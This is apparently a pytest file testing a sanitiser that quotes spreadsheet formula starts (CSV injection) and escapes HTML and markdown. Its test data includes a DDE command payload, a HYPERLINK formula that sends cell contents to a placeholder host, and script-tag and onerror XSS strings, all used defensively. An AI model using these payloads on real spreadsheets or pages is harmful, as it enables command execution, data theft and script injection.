"""pipelines.safe_cells: the OWASP CSV-injection rule in Python and in DuckDB SQL, and the HTML
and markdown escapes."""

from __future__ import annotations

import math

import duckdb
import pandas as pd
import pytest

from pipelines.safe_cells import (
    html_text,
    inert_frame,
    inert_sql,
    inert_text,
    inert_value,
    markdown_text,
    needs_quote,
)
from tests.security.hostile import HOSTILE, formula_like

QUOTED = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx",  # OWASP's list
    '=HYPERLINK("http://x/?"&A1,"klik")', "+cmd|' /C calc'!A0",
    " =1+1", "  @x", "\u00a0=1", "\u3000=1", "\n=1", "\ufeff=1",  # after white space
    "\uff1d1+1", "\uff0bx", "\uff0d1+1", "\uff20x",  # full-width forms
    "-", "+", "-1E+5", "-1+", "+1 A1", "-(1)", "-1,5 poin (x)",
]
UNCHANGED = [
    "Mawar", "Posyandu Mawar 1", "", " x", "\nx", "x=1", "1=1", "'=1", "Kab. Jember",
    "-1", "-1,5", "+2.3", "-2.31", "+1.234,5", "-12,3 %", "-0,4 poin", "+1.2 pts", "-0.5%",
    "<script>", "[klik](http://x)", "\u2212 1",
]


@pytest.mark.parametrize("text", QUOTED)
def test_formula_starts_are_quoted(text):
    assert needs_quote(text) and formula_like(text)
    assert inert_text(text) == "'" + text
    assert not formula_like(inert_text(text))


@pytest.mark.parametrize("text", UNCHANGED)
def test_other_text_and_plain_numbers_are_left_as_they_are(text):
    assert inert_text(text) == text


def test_the_rule_is_idempotent():
    for text in QUOTED + UNCHANGED + list(HOSTILE):
        assert inert_text(inert_text(text)) == inert_text(text)


def test_values_that_are_not_text_are_left_as_they_are():
    for value in (-1, -2.5, 0, None, True, pd.Timestamp("2025-08-01"), pd.NA):
        assert inert_value(value) is value
    assert math.isnan(inert_value(float("nan")))


def test_python_and_sql_agree():
    cases = QUOTED + UNCHANGED + list(HOSTILE)
    con = duckdb.connect()
    con.execute("CREATE TABLE t (i INTEGER, v VARCHAR)")
    con.executemany("INSERT INTO t VALUES (?, ?)", list(enumerate(cases)) + [(len(cases), None)])
    got = dict(con.execute(f"SELECT i, {inert_sql('v')} FROM t").fetchall())
    assert [got[i] for i in range(len(cases))] == [inert_text(c) for c in cases]
    assert got[len(cases)] is None


def test_frames_keep_numbers_numbers():
    df = pd.DataFrame({
        "nama": ["=1+1", "Mawar", None, "-1,5"],
        "zlen": [-2.5, -3.0, 0.4, -1.0],
        "n": pd.array([-1, 2, None, 4], dtype="Int64"),
        "kelas": pd.Categorical(["@x", "baik", "baik", None]),
        "teks": pd.array(["+cmd|' /C calc'!A0", "ok", pd.NA, "x"], dtype="string"),
        "=kolom": ["a", "b", "c", "d"],
        "tanggal": pd.to_datetime(["2025-08-01"] * 4),
    })
    out = inert_frame(df)
    assert out["nama"].tolist()[:2] == ["'=1+1", "Mawar"] and pd.isna(out["nama"].iloc[2])
    assert out["nama"].iloc[3] == "-1,5"
    assert out["zlen"].dtype == df["zlen"].dtype and out["zlen"].tolist() == [-2.5, -3.0, 0.4, -1.0]
    assert out["n"].dtype == df["n"].dtype and out["n"].iloc[0] == -1
    assert out["kelas"].iloc[0] == "'@x" and pd.isna(out["kelas"].iloc[3])
    assert out["teks"].iloc[0] == "'+cmd|' /C calc'!A0" and pd.isna(out["teks"].iloc[2])
    assert list(out.columns) == ["nama", "zlen", "n", "kelas", "teks", "'=kolom", "tanggal"]
    assert out["tanggal"].equals(df["tanggal"])
    assert df["nama"].iloc[0] == "=1+1"  # the input frame is not changed


def test_html_text_escapes_markup():
    assert html_text("<script>alert(1)</script>") == "&lt;script&gt;alert(1)&lt;/script&gt;"
    assert html_text('<img src=x onerror="a">') == "&lt;img src=x onerror=&quot;a&quot;&gt;"
    assert html_text("A & B") == "A &amp; B" and html_text(None) == ""


def test_markdown_text_leaves_no_markup():
    text = markdown_text("[klik](http://x) ![x](http://x/t.png) **b** :red[x] $x$ `c` <b>")
    for raw in ("[klik](", "![x]", "**b**", ":red[", "$x$", "`c`", "<b>"):
        assert raw not in text
    assert "\\[klik\\](http\\://x)" in text
    assert markdown_text("- a") == "\\- a" and markdown_text("1. a") == "1\\. a"
    assert markdown_text("# a") == "\\# a"
    assert markdown_text("Kabupaten Jember") == "Kabupaten Jember"
